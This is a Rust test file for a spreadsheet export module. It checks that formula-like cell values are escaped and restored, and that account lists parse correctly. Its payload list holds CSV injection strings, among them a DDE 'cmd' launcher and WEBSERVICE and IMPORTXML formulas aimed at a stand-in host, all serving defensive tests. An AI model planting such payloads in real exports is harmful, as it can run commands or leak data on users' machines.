use proptest::prelude::*;

use super::super::cell::*;

/// What has been seen to run, or to be taken for a formula after some tool's trimming.
const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://bad.example\",\"click\")",
    "=WEBSERVICE(\"https://bad.example\")",
    "=IMPORTXML(CONCAT(\"https://bad.example\",A1),\"//a\")",
    "=",
    "==",
    "+1+1",
    "+49 30 1234567",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "-",
    "--3",
    "-3.5.1",
    "-3,5",
    "-1e5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@ann",
    "@",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\nplain",
    "\r\n=1+1",
    " =1+1",
    "   @ann",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    " -3.5",
    "＝1+1",
    "＋1",
    "－1",
    "＠ann",
    "'=1+1",
    "''=1+1",
];

#[test]
fn what_a_spreadsheet_would_run_is_neutralised_and_read_back() {
    for payload in PAYLOADS {
        let shown = neutralise(payload);
        assert_eq!(shown, format!("'{payload}"));
        assert_eq!(restore(&shown), payload);
    }
}

#[test]
fn what_runs_as_itself_or_not_at_all_stays() {
    for plain in [
        "",
        "Ann",
        "-3.5",
        "-12",
        "3.5",
        "'t Hooft",
        "'",
        "''",
        "O'Brien",
        "a=b",
        "a@corp.example",
        " ",
        "\"=1",
        "'-3.5",
        "１",
    ] {
        assert_eq!(neutralise(plain), plain);
        assert_eq!(restore(plain), plain);
    }
}

#[test]
fn a_quote_that_a_hand_wrote_before_plain_text_is_left_alone() {
    for written in ["'007", "'t Hooft", "'true", "'-3.5"] {
        assert_eq!(restore(written), written);
    }
}

fn name(text: &str) -> Token {
    Token::Name(text.into())
}

fn external(text: &str) -> Token {
    Token::ExternalId(text.into())
}

#[test]
fn accounts_are_listed_as_people_would_write_them() {
    let tokens = [
        name("octocat"),
        name("ann@corp.example"),
        external("10042"),
        name("odd;name"),
        name("id:not-an-id"),
        external(" 7"),
        name("say \"hi\""),
        external("id:1"),
        name(""),
    ];
    let cell = "octocat; ann@corp.example; id:10042; \"odd;name\"; \"id:not-an-id\"; id:\" 7\"; \"say \"\"hi\"\"\"; \
                id:id:1; \"\"";
    assert_eq!(join(&tokens), cell);
    assert_eq!(split_tokens(cell), Ok(tokens.to_vec()));
}

/// The cell that lists `tokens`.
fn join(tokens: &[Token]) -> String {
    tokens.iter().fold(String::new(), |mut cell, token| {
        match token {
            Token::Name(text) => push_token(&mut cell, false, text),
            Token::ExternalId(text) => push_token(&mut cell, true, text),
        }
        cell
    })
}

#[test]
fn a_list_is_read_whatever_its_blanks() {
    for (cell, tokens) in [
        ("", vec![]),
        (" ; ;", vec![]),
        ("octocat", vec![name("octocat")]),
        (" octocat ;ann ", vec![name("octocat"), name("ann")]),
        ("a b;ID: 42 ;", vec![name("a b"), external("42")]),
        ("\"x\" ; id: \"y\"", vec![name("x"), external("y")]),
        ("ids:1", vec![name("ids:1")]),
    ] {
        assert_eq!(split_tokens(cell), Ok(tokens), "{cell}");
    }
}

#[test]
fn a_list_with_misplaced_quotes_is_refused() {
    for (cell, why) in [
        ("\"ann", "a double quote is not closed"),
        ("\"ann\" lee; bo", "text follows a double quote that closes a name"),
        ("ann \"ant\" lee", "a name that contains double quotes stands between double quotes, with its own doubled"),
        ("id:; ann", "nothing follows `id:`"),
    ] {
        let message = format!("`{cell}` is not a list of accounts like `ann; id:42`: {why}");
        assert_eq!(split_tokens(cell), Err(("NOT_A_LIST", message)));
    }
}

/// Text in which what is special is frequent.
fn tricky() -> impl Strategy<Value = String> {
    let special = prop::sample::select(vec![
        "'", "=", "+", "-", "@", "\t", "\r", "\n", " ", "\u{a0}", "＝", "3", ".", ";", "\"", "id:", "ID:", "a", "é",
        ",",
    ]);
    prop_oneof![any::<String>(), prop::collection::vec(special, 0..8).prop_map(|parts| parts.concat())]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4_096))]

    #[test]
    fn every_value_is_restored_exactly(value in tricky()) {
        let shown = neutralise(&value);
        prop_assert_eq!(restore(&shown), &value);
    }

    #[test]
    fn nothing_neutralised_begins_as_a_formula_does(value in tricky()) {
        let shown = neutralise(&value);
        let begins_formula = shown.trim_start().starts_with(['=', '+', '@', '＝', '＋', '－', '＠']);
        prop_assert!(!begins_formula && !shown.starts_with(['\t', '\r', '\n']));
        prop_assert!(!shown.trim_start().starts_with('-') || shown.parse::<f64>().is_ok());
    }

    #[test]
    fn every_list_of_accounts_is_read_back(list in prop::collection::vec((any::<bool>(), tricky()), 0..5)) {
        let tokens: Vec<Token> = list
            .into_iter()
            .map(|(is_id, text)| if is_id { Token::ExternalId(text) } else { Token::Name(text) })
            .collect();
        prop_assert_eq!(split_tokens(&join(&tokens)), Ok(tokens));
    }

    #[test]
    fn no_list_of_accounts_is_too_odd_to_look_at(cell in tricky()) {
        if let Ok(tokens) = split_tokens(&cell) {
            prop_assert_eq!(split_tokens(&join(&tokens)), Ok(tokens));
        }
    }
}
